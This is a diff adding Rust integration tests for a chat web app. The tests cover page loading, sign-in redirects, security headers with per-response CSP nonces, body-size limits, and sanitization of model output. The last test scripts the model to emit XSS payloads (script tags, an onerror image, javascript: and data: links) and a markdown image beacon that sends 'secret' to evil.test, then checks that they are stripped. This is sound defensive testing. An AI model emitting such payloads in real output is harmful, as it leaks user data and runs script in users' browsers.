@@ -1,0 +1,98 @@
+//! What every page and every answer has.
+
+use http::StatusCode;
+use reqwest::Method;
+
+use crate::support::{TestApp, location, prompt};
+
+#[tokio::test(flavor = "multi_thread")]
+async fn pages_come_whole_from_the_server() {
+    let app = TestApp::start().await;
+    let mut visitor = app.browser();
+    for (path, text) in [("/", "Plumbline"), ("/sign-in", "Continue with Sandbox")] {
+        let response = visitor.get(path).await;
+        assert_eq!(response.status(), StatusCode::OK);
+        assert!(response.text().await.expect("a page").contains(text), "{path}");
+    }
+    let missing = visitor.get("/no-such-page").await;
+    assert_eq!(missing.status(), StatusCode::NOT_FOUND);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn pages_that_need_a_session_send_people_to_sign_in_and_back() {
+    let app = TestApp::start().await;
+    for path in ["/chat", "/usage", "/account"] {
+        let mut browser = app.browser();
+        let sign_in = location(&browser.get(path).await);
+        assert_eq!(sign_in, format!("/sign-in?return_to={}", path.replace('/', "%2F")), "{path}");
+        let page = browser.get(&sign_in).await.text().await.expect("a page");
+        assert!(page.contains(&format!("/auth/oidc/start?return_to={}", path.replace('/', "%2F"))), "{path}: {page}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn every_answer_carries_the_security_headers_and_a_nonce_of_its_own() {
+    let app = TestApp::start().await;
+    let mut browser = app.browser();
+    let mut nonces = Vec::new();
+    for path in ["/", "/", "/no-such-page", "/health/live"] {
+        let response = browser.get(path).await;
+        let header = |name: &str| response.headers()[name].to_str().expect("text").to_owned();
+        let policy = header("content-security-policy");
+        for part in ["default-src 'self'", "img-src 'self'", "object-src 'none'", "frame-ancestors 'none'", "base-uri 'none'"] {
+            assert!(policy.contains(part), "{policy}");
+        }
+        assert!(!policy.contains("unsafe-inline"));
+        assert_eq!(header("x-content-type-options"), "nosniff");
+        assert!(!header("x-request-id").is_empty());
+        let nonce = policy.split("'nonce-").nth(1).and_then(|rest| rest.split('\'').next()).expect("a nonce").to_owned();
+        let page = response.text().await.expect("a page");
+        if page.contains("<script") {
+            assert_eq!(page.matches("<script").count(), page.matches(&format!("nonce=\"{nonce}\"")).count() - preloads(&page, &nonce));
+        }
+        nonces.push(nonce);
+    }
+    nonces.sort();
+    nonces.dedup();
+    assert_eq!(nonces.len(), 4);
+}
+
+/// Links that preload carry the nonce as well.
+fn preloads(page: &str, nonce: &str) -> usize {
+    page.split('<').filter(|tag| tag.starts_with("link") && tag.contains(nonce)).count()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_body_too_large_is_refused() {
+    let app = TestApp::start().await;
+    let browser = app.user().await;
+    let response = browser
+        .request(Method::POST, "/api/chat/start_reply")
+        .header("content-type", "application/json")
+        .body(vec![b' '; 300 * 1024])
+        .send()
+        .await
+        .expect("an answer");
+    assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
+}
+
+/// (17)
+#[tokio::test(flavor = "multi_thread")]
+async fn what_the_model_says_cannot_run_or_reach_out_of_the_page() {
+    let app = TestApp::start().await;
+    let mut browser = app.user().await;
+    let prompt = prompt();
+    let text = "![pixel](https://evil.test/?q=secret) <img src=x onerror=alert(1)> <script>alert(1)</script> \
+                [a](javascript:alert(1)) [b](data:text/html,x) [c](https://example.test/ok)";
+    app.sandbox.script(&prompt, serde_json::json!({ "text": text, "gap_ms": 0, "first_token_delay_ms": 0 })).await;
+    let mut reply = browser.start_reply(&crate::support::new_request(&prompt)).await;
+    let (_, thread_id) = reply.read_started().await;
+    reply.read_to_end().await;
+
+    let page = browser.get(&format!("/chat/{thread_id}")).await.text().await.expect("a page");
+    let answer = page.split("data-testid=\"message-assistant\"").nth(1).expect("the answer");
+    assert!(answer.contains("https://example.test/ok"));
+    for forbidden in ["<img", "<script>alert", "href=\"javascript:", "href=\"data:", "src=\"https://evil.test"] {
+        assert!(!answer.contains(forbidden), "{forbidden} in {answer}");
+    }
+}
